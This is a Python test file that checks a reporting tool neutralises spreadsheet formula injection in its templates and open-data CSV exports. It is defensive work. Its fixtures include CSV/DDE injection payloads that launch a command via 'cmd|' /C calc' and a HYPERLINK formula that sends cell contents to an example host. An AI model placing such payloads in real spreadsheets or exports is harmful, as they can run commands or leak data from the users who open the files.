"""Text in spreadsheet cells a person opens (templates, open data) is never a formula, and
reads back exactly (model/cells.py, `scp import --template`, the open data CSV)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scp_report.model.cells import needs_apostrophe, neutralise, restore

from ..builders import overlay
from ..helpers import run_cli as run

# Each a formula or a way into one in some spreadsheet.
FORMULAS = [
    '=HYPERLINK("https://example.org/?d="&A1, "Click for details")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x1b[2J",
    "  =1+1",
    "'=1+1",
    "''@x",
]
FIRST = "=+-@\t\r\n\x00\x1b\x7f\x9b"


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert restore("'" + text) == text


@pytest.mark.parametrize("value", [-3, -3.5, 0, "-3", "+1.5", "-12%", "-1e3", "", "Number of x"])
def test_figures_and_plain_text_stay_as_they_are(value: object) -> None:
    assert neutralise(value) == value
    assert restore(str(value)) == str(value)


ANY_TEXT = st.text(st.sampled_from([*FIRST, "'", " ", "a", "1", ".", "%", "é"]), max_size=12)


@settings(max_examples=500, deadline=None)
@given(ANY_TEXT | st.text(max_size=12))
def test_restore_undoes_neutralise_and_nothing_written_starts_a_formula(text: str) -> None:
    written = neutralise(text)
    assert isinstance(written, str)
    assert restore(written) == text
    start = written.lstrip(" ")[:1]
    if start and start in FIRST:  # only a figure may start so: -3, +1.5
        float(written.removesuffix("%"))
    if needs_apostrophe(text):
        assert written.startswith("'")
    # and through a CSV file, as a spreadsheet and `scp import` read it
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator="\r\n").writerow([written])
    (cell,) = next(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert restore(cell) == text


MEASURES = {
    "example-first-time": '=HYPERLINK("https://example.org/?d="&A1, "50% first time")',
    "example-count": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _hostile_measures(plan: Path) -> None:
    theme = plan / "themes" / "example.yaml"
    text = theme.read_text()
    text = text.replace(
        "measure: 50% of incidents are first time reports",
        f"measure: '{MEASURES['example-first-time']}'",
    )
    text = text.replace("measure: Number of referrals", f'measure: "{MEASURES["example-count"]}"')
    theme.write_text(text)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_template_carries_no_formula_and_imports_back(in_tmp: Path, suffix: str) -> None:
    plan = overlay("minimal", in_tmp / "plan")
    _hostile_measures(plan)
    assert run("validate")[0] == 0
    code, _, err = run("import", "--template", f"t{suffix}", "--quarter", "Q4-2017/18")
    assert code == 0, err
    if suffix == ".csv":
        rows = list(csv.DictReader(io.StringIO((in_tmp / "t.csv").read_text(), newline="")))
        measures = {r["indicator"]: r["measure"] for r in rows}
        every = [cell for r in rows for cell in r.values()]
    else:
        ws = openpyxl.load_workbook(in_tmp / "t.xlsx").active
        assert ws is not None
        cells = [c for row in ws.iter_rows() for c in row]
        assert all(c.data_type != "f" for c in cells)
        assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
        measures = {str(r[0].value): str(r[1].value) for r in ws.iter_rows(min_row=2)}
        every = [str(c.value or "") for c in cells]
    for ident, measure in MEASURES.items():
        assert measures[ident] == "'" + measure
    assert not [cell for cell in every if cell and cell[0] in FIRST]
    # The template as it was written imports: nothing in it is a figure yet.
    code, out, err = run("import", f"t{suffix}", "--quarter", "Q4-2017/18", "--check")
    assert code == 0, err + out


def test_a_neutralised_note_reads_back_as_written(in_tmp: Path) -> None:
    overlay("minimal", in_tmp / "plan")
    note = "=1+1 was what we counted"
    (in_tmp / "q4.csv").write_text(
        "indicator,value,period,note\n"
        f"example-count,12,Q4 2017/18,'{note}\n"
        "example-first-time,52,Q4 2017/18,\n"
    )
    code, _, err = run("import", "q4.csv", "--quarter", "Q4-2017/18")
    assert code == 0, err
    text = (in_tmp / "plan" / "readings" / "2017-18-q4.yaml").read_text()
    assert note in text and f"'{note}" not in text.replace(f"'{note}'", "")


def test_the_open_data_csv_neutralises_text_and_the_json_keeps_it(in_tmp: Path) -> None:
    plan = overlay("minimal", in_tmp / "plan")
    _hostile_measures(plan)
    code, _, err = run("build", "--format", "data", "--out", "out")
    assert code == 0, err
    (csv_path,) = (in_tmp / "out").glob("*.csv")
    (json_path,) = [p for p in (in_tmp / "out").glob("*.json") if p.name != "datapackage.json"]
    rows = list(csv.DictReader(io.StringIO(csv_path.read_text(encoding="utf-8-sig"), newline="")))
    measures = {r["id"]: r["measure"] for r in rows}
    assert {k: measures[k] for k in MEASURES} == {k: "'" + v for k, v in MEASURES.items()}
    assert not [c for r in rows for c in r.values() if c and c[0] in FIRST]
    data = json_path.read_text(encoding="utf-8")
    for measure in MEASURES.values():
        assert measure.replace('"', '\\"') in data


def test_the_xlsx_template_is_the_same_bytes_whenever_it_is_written(in_tmp: Path) -> None:
    import time

    overlay("minimal", in_tmp / "plan")
    assert run("import", "--template", "a.xlsx", "--quarter", "Q4-2017/18")[0] == 0
    time.sleep(2.1)  # a ZIP file's times are to 2 seconds
    assert run("import", "--template", "b.xlsx", "--quarter", "Q4-2017/18")[0] == 0
    assert (in_tmp / "a.xlsx").read_bytes() == (in_tmp / "b.xlsx").read_bytes()
